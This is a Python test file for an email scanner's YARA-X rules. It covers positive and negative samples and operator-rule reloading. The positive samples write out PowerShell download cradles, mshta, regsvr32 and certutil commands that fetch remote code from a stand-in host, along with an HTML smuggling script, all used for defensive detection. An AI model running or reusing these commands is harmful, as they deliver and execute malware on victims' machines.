"""Issue 16 item 3: YARA-X over every attachment and member. The project's rules each have a
positive and a negative here; the operator's rules directory is picked up on change, and a
broken file there keeps the previous set."""

from __future__ import annotations

import base64
import logging
import os
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from mailmoat.scan import yara_rules
from mailmoat.scan.result import FileResult
from mailmoat.settings import AnalysisSettings
from tests.unit.scan.scanfiles import eml, make_zip, only
from tests.unit.scan.vbafiles import write_cfb


@pytest.fixture(autouse=True)
def fresh_rules(tmp_path: Path) -> Iterator[Path]:
    rules = tmp_path / "rules"
    rules.mkdir()
    yara_rules.configure(AnalysisSettings(yara_rules_dir=rules, yara_reload_check_seconds=0))
    yield rules
    yara_rules.configure(None)


def matches(data: bytes) -> list[str]:
    result = FileResult("application/octet-stream")
    yara_rules.scan(data, result)
    assert not [h for h in result.hits if h.symbol == "SCAN_FAILED"], result.hits
    return [name for h in result.hits for name in h.detail.split(", ")]


PE = (b"MZ" + b"\x90" * 0x4C + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 64)
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
SMUGGLE = (b"<html><script>var d=atob('TVqQAAMAAAAEAAAA');var b=new Blob([d],"
           b"{type:'application/octet-stream'});var a=document.createElement('a');"
           b"a.href=URL.createObjectURL(b);a.download='invoice.iso';a.click();</script></html>")
LNK = b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"


def iso(payload: bytes) -> bytes:
    image = bytearray(0x8800)
    image[0x8000:0x8006] = b"\x01CD001"
    return bytes(image) + payload


@pytest.mark.parametrize(("rule", "positive", "negative"), [
    ("mailmoat_executable_in_document", write_cfb({"Ole10Native": b"\x00" * 40 + PE}),
     write_cfb({"Ole10Native": b"\x00" * 40 + b"This program cannot be run in DOS mode"})),
    ("mailmoat_executable_in_document", b"%PDF-1.7\n" + b"\x00" * 100 + ELF,
     b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"),
    ("mailmoat_powershell_download_cradle",
     b"powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')\"",
     b"Please run PowerShell as administrator and download the file from the portal."),
    ("mailmoat_powershell_download_cradle",
     b"powershell.exe -w hidden -enc " + base64.b64encode("iex (iwr http://x.example/a)"
                                                           .encode("utf-16-le")),
     b"powershell -encoding utf8 -file report.ps1"),
    ("mailmoat_lolbin_remote_script", b'cmd /c mshta http://x.example/a.hta',
     b"mshta.exe is the Microsoft HTML Application host."),
    ("mailmoat_lolbin_remote_script",
     b"regsvr32 /s /n /u /i:http://x.example/file.sct scrobj.dll",
     b"regsvr32 /s c:\\program files\\vendor\\component.dll"),
    ("mailmoat_lolbin_remote_script", b"certutil -urlcache -split -f http://x.example/a.exe a.exe",
     b"certutil -hashfile report.pdf SHA256"),
    ("mailmoat_html_smuggling", SMUGGLE,
     b"<html><script>var s=atob('aGVsbG8=');document.title=s;</script></html>"),
    ("mailmoat_disk_image_with_lnk", iso(b"INVOICE.LNK;1" + LNK), iso(b"README.TXT;1 hello")),
], ids=["pe-in-ole", "elf-in-pdf", "cradle", "encoded", "mshta", "squiblydoo", "certutil",
        "smuggling", "iso-lnk"])
def test_project_rule_positive_and_negative(rule: str, positive: bytes, negative: bytes) -> None:
    assert rule in matches(positive)
    assert rule not in matches(negative)


def test_a_bare_executable_is_not_an_executable_in_a_document() -> None:
    assert matches(PE) == []


def test_members_are_scanned_and_the_verdict_follows_the_rule(analyse) -> None:
    report = analyse(eml(("page.zip", make_zip({"page.html": SMUGGLE}))))
    att = only(report)
    assert "SANDBOX_YARA" in att["symbols"], att
    member = [f for f in report["findings"] if f["symbol"] == "SANDBOX_YARA"]
    assert member and member[0]["detail"] == "mailmoat_html_smuggling"
    cradle = only(analyse(eml(("run.txt", b"powershell -c \"iwr http://x.example/a | iex\""))))
    assert cradle["verdict"] == "danger" and "SANDBOX_YARA_DANGER" in cradle["symbols"], cradle


def test_operator_rule_added_at_runtime_matches_the_next_scan(analyse, fresh_rules: Path) -> None:
    data = b"quarterly numbers: ACME-CAMPAIGN-7731 attached"
    before = yara_rules.rules_version()
    assert only(analyse(eml(("notes.txt", data))))["verdict"] == "safe"
    (fresh_rules / "campaign.yar").write_text(
        'rule acme_campaign { meta: verdict = "danger" strings: $a = "ACME-CAMPAIGN-7731" '
        "condition: $a }\n")
    after = yara_rules.rules_version()
    assert after != before
    att = only(analyse(eml(("notes.txt", data))))  # same bytes: the cache must not mask it
    assert att["verdict"] == "danger" and "SANDBOX_YARA_DANGER" in att["symbols"], att
    report = analyse(eml(("notes.txt", data)))
    assert [f["detail"] for f in report["findings"] if f["symbol"] == "SANDBOX_YARA_DANGER"] == \
        ["operator_campaign:acme_campaign"]


def test_broken_operator_rule_keeps_the_previous_set(fresh_rules: Path, caplog) -> None:
    (fresh_rules / "good.yara").write_text('rule good { strings: $a = "GOOD-7731" condition: $a }')
    assert "operator_good:good" in matches(b"GOOD-7731")
    version = yara_rules.rules_version()
    (fresh_rules / "broken.yar").write_text("rule broken { strings: $a = condition: }")
    with caplog.at_level(logging.ERROR, logger="mailmoat.scan"):
        assert "operator_good:good" in matches(b"GOOD-7731")
    assert yara_rules.rules_version() == version
    assert any("do not compile" in r.getMessage() and "previous set kept" in r.getMessage()
               for r in caplog.records)


def test_broken_operator_rule_at_start_leaves_the_project_rules(fresh_rules: Path) -> None:
    (fresh_rules / "broken.yar").write_text("rule broken {")
    assert "mailmoat_html_smuggling" in matches(SMUGGLE)


def test_reload_waits_for_the_check_interval(fresh_rules: Path) -> None:
    yara_rules.configure(AnalysisSettings(yara_rules_dir=fresh_rules,
                                          yara_reload_check_seconds=3600))
    version = yara_rules.rules_version()
    (fresh_rules / "late.yar").write_text('rule late { strings: $a = "LATE-1" condition: $a }')
    os.utime(fresh_rules / "late.yar", (time.time() + 5, time.time() + 5))
    assert yara_rules.rules_version() == version
    assert matches(b"LATE-1") == []


def test_only_the_first_bytes_are_scanned(fresh_rules: Path) -> None:
    yara_rules.configure(AnalysisSettings(yara_rules_dir=fresh_rules, yara_max_bytes=1024))
    assert matches(b"\x00" * 4096 + SMUGGLE) == []
    assert "mailmoat_html_smuggling" in matches(SMUGGLE)


def test_a_huge_input_ends_within_its_bound(fresh_rules: Path) -> None:
    yara_rules.configure(AnalysisSettings(yara_rules_dir=fresh_rules, yara_max_bytes=8 << 20))
    started = time.monotonic()
    matches(b"atob(new Blob(" * ((64 << 20) // 14))
    assert time.monotonic() - started < 10
